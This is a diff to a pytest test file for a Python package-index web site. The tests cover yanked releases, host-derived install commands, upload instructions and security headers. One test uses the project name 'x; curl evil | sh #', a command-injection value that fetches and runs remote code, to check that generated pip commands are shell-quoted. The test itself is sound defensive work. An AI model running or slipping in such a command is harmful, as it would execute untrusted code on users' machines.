@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import html
 import io
 import json
 import re
+import shlex
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 from server.site.documents import Document
@@ -66,7 +69,8 @@ class TestPages:
     def test_projects(self, site: Site) -> None:
         """The front page lists every project with its newest release and variants."""
         page = read(site, "/")
-        assert "fast-fft 2.1 3 releases 4 variants 2026-10-02" in page.text
+        summary = "Fast Fourier transforms on processors and GPUs"
+        assert f"fast-fft {summary} 2.1 3 releases 4 variants 2026-10-02" in page.text
         assert "plainly 1.0 1 release" in page.text
         assert "./project/fast-fft/" in page.links
 
@@ -139,6 +143,39 @@ class TestPages:
         assert "wrong on odd sizes" in page.text
         assert "This is not the newest release: that is 2.1" in page.text
 
+    @pytest.mark.parametrize(
+        "filename",
+        ["some-2.0-cp39-cp39-win32.whl", "some-2.0.tar.gz"],
+        ids=["for other machines", "source"],
+    )
+    def test_newest(self, tmp_path: Path, filename: str) -> None:
+        """A yanked release is not the newest, whatever its files are for."""
+        index = MemoryIndex()
+        index.add_wheel(build_wheel(tmp_path, "some", "1.0"))
+        index.add("some", File(filename, url_of(filename), yanked="broken"))
+        text = read(Site(index), "/project/some/").text
+        assert "some==1.0" in text
+        assert "2.0 yanked" in text
+        assert "Every release is yanked" not in text
+
+    def test_nothing_but_yanked(self, tmp_path: Path) -> None:
+        """There is no command for a project whose releases are all yanked."""
+        index = MemoryIndex()
+        index.add_wheel(build_wheel(tmp_path, "some", "1.0"), yanked="")
+        text = read(Site(index), "/project/some/").text
+        assert "Every release is yanked" in text
+        assert "pip install" not in text
+
+    def test_missing_project(self, site: Site) -> None:
+        """A page that is not there names projects with names like it."""
+        page = read(site, "/project/fast-ftf/", 404)
+        assert "../../project/fast-fft/" in page.links
+
+    def test_icon(self, site: Site) -> None:
+        """There is an icon, which is nobody else's."""
+        answer = ask(site, "/favicon.svg")
+        assert answer.headers["content-type"].startswith("image/svg+xml")
+
     def test_plain_release(self, site: Site) -> None:
         """A release without variants says that, and still says who gets it."""
         page = read(site, "/project/plainly/1.0/")
@@ -187,17 +224,45 @@ class TestCommands:
         answer = ask(site, "/project/fast-fft/2.1/", headers=headers, origin="http://evil.example")
         page = Document(body(answer))
         assert "evil.example" not in page.text
-        assert "--index-url INDEX_URL fast-fft==2.1" in page.text
+        assert "--index-url INDEX_URL/simple/ fast-fft==2.1" in page.text
         assert "../../../simple/" in page.links
+
+    def test_checked_host(self, index: MemoryIndex) -> None:
+        """Where the name of the server was checked, it is the address."""
+        site = Site(index, trusts_host=True)
+        headers = {"host": "wheels.example.org:8000"}
+        page = Document(body(ask(site, "/project/plainly/1.0/", headers=headers)))
+        url = "http://wheels.example.org:8000/simple/"
+        assert f"pip install --index-url {url} plainly==1.0" in page.text
+        headers["x-forwarded-proto"] = "https"
+        page = Document(body(ask(site, "/", headers=headers)))
+        assert "global.index-url https://wheels.example.org:8000/simple/" in page.text
+
+    def test_plain_project(self, site: Site) -> None:
+        """Without variants pip comes first, as it is."""
+        text = read(site, "/project/plainly/").text
+        pip = "pip install --index-url https://wheels.example.org/simple/ plainly==1.0"
+        assert text.index(pip) < text.index("wheelfit install")
+        assert "wheelfit run" not in text
+
+    def test_uploads(self, index: MemoryIndex) -> None:
+        """The front page says how to upload, if one can."""
+        site = Site(index, public_url="https://wheels.example.org", takes_uploads=True)
+        page = read(site, "/")
+        assert (
+            "twine upload --repository-url https://wheels.example.org/legacy/ dist/*" in page.text
+        )
+        assert "twine" not in read(Site(index), "/").text
 
     def test_nothing_ends_a_word(self) -> None:
         """A name that is none is quoted, so that a copied command does nothing else."""
         index = MemoryIndex()
-        name = "x; curl evil.example | sh #"
+        name = "x; curl evil | sh #"
         index.add(name, File("x-1.0-py3-none-any.whl", url_of("x")))
-        assert "--index-url INDEX_URL 'x; curl evil.example | sh #'" in json.dumps(
-            Site(index)._commands(name, None)  # type: ignore[arg-type]
-        )
+        content = body(ask(Site(index, public_url="https://e.org"), f"/project/{quote(name)}/"))
+        assert b"x; curl" in content
+        for line in re.findall(rb"<code>((?:pip|uv|wheelfit) .*)</code>", content):
+            assert shlex.split(html.unescape(line.decode()))[-1].startswith("x; curl")
 
 
 def form(content: bytes, filename: str = "machine.toml", python: str = "") -> Request:
@@ -742,7 +807,9 @@ class TestAnswers:
         """Every answer forbids scripts, frames and guesses."""
         headers = ask(site, target).headers
         policy = headers["content-security-policy"]
-        assert policy.startswith("default-src 'none'; style-src 'self'; form-action 'self'")
+        assert policy.startswith(
+            "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'self'"
+        )
         assert "frame-ancestors 'none'" in policy
         assert headers["x-content-type-options"] == "nosniff"
         assert headers["referrer-policy"] == "same-origin"
